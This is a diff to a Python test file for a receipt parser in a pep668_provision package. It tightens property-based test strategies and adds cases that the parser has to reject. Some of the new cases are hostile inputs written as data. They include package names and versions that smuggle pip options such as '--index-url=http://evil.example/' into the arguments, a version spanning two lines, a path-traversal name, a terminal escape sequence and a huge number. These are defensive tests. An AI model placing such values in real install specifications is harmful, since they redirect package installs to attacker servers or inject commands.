@@ -23,13 +23,16 @@ from pep668_provision.engine.receipt import (
 
 WHOLE = Receipt("sha256:ab", InterpreterIdentity("/usr/bin/python3.11", "3.11.2", 5, 7), {"flask": "3.0.3"}, "pip", "")
 TEXTS = st.text(max_size=20)
+WORDS = st.from_regex(r"[A-Za-z0-9.:+_-]{0,20}", fullmatch=True)
+VERSIONS = st.from_regex(r"([0-9][A-Za-z0-9.!+_-]{0,9})?", fullmatch=True)
+NUMBERS = st.integers(-(2**62), 2**62)
 RECEIPTS = st.builds(
     Receipt,
-    digest=TEXTS,
-    interpreter=st.builds(InterpreterIdentity, path=TEXTS, version=TEXTS, size=st.integers(), mtime_ns=st.integers()),
-    packages=st.dictionaries(TEXTS, TEXTS, max_size=5),
-    installer=TEXTS,
-    unfinished=TEXTS,
+    digest=WORDS,
+    interpreter=st.builds(InterpreterIdentity, path=TEXTS, version=WORDS, size=NUMBERS, mtime_ns=NUMBERS),
+    packages=st.dictionaries(st.from_regex(r"[a-z0-9](-?[a-z0-9]){0,9}", fullmatch=True), VERSIONS, max_size=5),
+    installer=WORDS,
+    unfinished=WORDS,
 )
 
 
@@ -105,6 +108,14 @@ def changed(**keys: Any) -> str:
         pytest.param(changed(digest=None), id="no digest"),
         pytest.param(changed(unfinished=True), id="unfinished without a name"),
         pytest.param(changed(installer=1), id="an installer that is a number"),
+        pytest.param(changed(packages={"--index-url=http://evil.example/": "1"}), id="a name that is an option"),
+        pytest.param(changed(packages={"-r": "1"}), id="a name that is a short option"),
+        pytest.param(changed(packages={"flask": "1\n--index-url http://evil.example/"}), id="a version of two lines"),
+        pytest.param(changed(packages={"flask": "1 --hash=sha256:00"}), id="a version with an option"),
+        pytest.param(changed(packages={"../../flask": "1"}), id="a name that is a path"),
+        pytest.param(changed(packages={"flask": "\ud800"}), id="half a character"),
+        pytest.param(changed(unfinished="x\u001b[2J"), id="an action that a terminal acts on"),
+        pytest.param('{"format": 1, "interpreter": {"size": ' + "9" * 4_000_000 + "}}", id="four million digits"),
     ],
 )
 def test_what_is_no_receipt_is_none(text: str) -> None:
